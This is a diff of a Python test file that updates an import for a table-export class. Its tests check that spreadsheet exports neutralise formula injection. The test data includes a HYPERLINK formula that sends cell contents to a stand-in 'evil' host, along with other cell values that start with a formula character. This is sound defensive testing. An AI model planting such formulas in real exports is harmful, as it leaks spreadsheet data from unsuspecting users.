@@ -13,7 +13,7 @@ from hypothesis import strategies as st
 from adapters.platform.spreadsheets import RUNS, cell, text_of
 from local.analyst.answer import Answer, as_cells, write
 from local.move_in.rows import RefusedFile, RefusedRow, columns_of, read_rows
-from processors.erasure import _Table
+from processors.person_exports import Table
 
 RUNNING = ['=HYPERLINK("http://evil?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1"]
 QUIET = ["", "ann", "'=1", "'", "a=1", " -", "x@y.example"]
@@ -48,7 +48,7 @@ def test_what_is_written_is_quiet_and_can_be_read_back(text: str) -> None:
 
 def test_an_export_holds_no_cell_that_runs() -> None:
     rows = [{"key": each, each: -5, "points": -5, "nested": {"=": "=1"}} for each in RUNNING]
-    table = _Table(io.StringIO())
+    table = Table(io.StringIO())
     list(table.texts(rows))
     told = list(csv.DictReader(io.StringIO(b"".join(table.lines()).decode(), newline="")))
     assert all(is_quiet(each or "") for row in told for each in (*row, *row.values()))
